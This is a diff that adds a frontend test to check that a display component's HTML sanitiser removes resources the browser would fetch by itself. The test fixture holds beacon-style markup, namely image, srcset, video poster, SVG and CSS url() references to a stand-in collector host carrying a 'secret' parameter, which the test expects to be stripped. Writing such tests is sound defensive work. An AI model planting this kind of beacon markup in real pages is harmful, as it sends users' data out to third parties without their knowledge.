@@ -100,6 +100,41 @@ describe("<DisplayView>", () => {
     expect(html.querySelector("[tabindex]")).toBeNull();
   });
 
+  it("has the browser fetch nothing by itself: only inline images and styles are kept", async () => {
+    // A program with no network could otherwise send what it read out through the page.
+    const inline = `data:image/png;base64,${PNG_BASE64}`;
+    const program: Display = {
+      data: {
+        "text/plain": "<Beacons>",
+        "text/html": [
+          '<img id="remote" src="https://collector.example/?secret=1" alt="remote">',
+          '<img id="relative" src="/api/leak?secret=1" alt="relative">',
+          `<img id="inline" src="${inline}" alt="inline">`,
+          `<img id="set" srcset="${inline} 1x, https://collector.example/2x.png 2x" alt="set">`,
+          '<video id="video" poster="https://collector.example/poster.png"></video>',
+          '<svg><image id="svg-image" href="https://collector.example/i.png"></image></svg>',
+          '<div id="styled" style="color: red; background: url(https://collector.example/bg)">a</div>',
+          `<div id="inline-style" style="background-image: url('${inline}')">b</div>`,
+          '<a id="link" href="https://example.org/read-more">read more</a>',
+        ].join(""),
+      },
+    };
+    const { container } = render(<DisplayView display={program} />);
+    const html = await sanitised(container);
+    const find = (id: string) => html.querySelector(`#user-content-${id}`);
+    expect(find("remote")).not.toHaveAttribute("src");
+    expect(find("relative")).not.toHaveAttribute("src");
+    expect(find("inline")).toHaveAttribute("src", inline);
+    expect(find("set")).not.toHaveAttribute("srcset");
+    expect(find("video")).not.toHaveAttribute("poster");
+    expect(find("svg-image")).not.toHaveAttribute("href");
+    expect(find("styled")).not.toHaveAttribute("style");
+    expect(find("inline-style")?.getAttribute("style")).toContain(inline);
+    // A link still waits for a click, and opens in a tab of its own.
+    expect(find("link")).toHaveAttribute("href", "https://example.org/read-more");
+    expect(html.innerHTML).not.toContain("collector.example");
+  });
+
   it("shows Markdown and JSON as text, and text/plain for a type it does not know", () => {
     render(
       <>
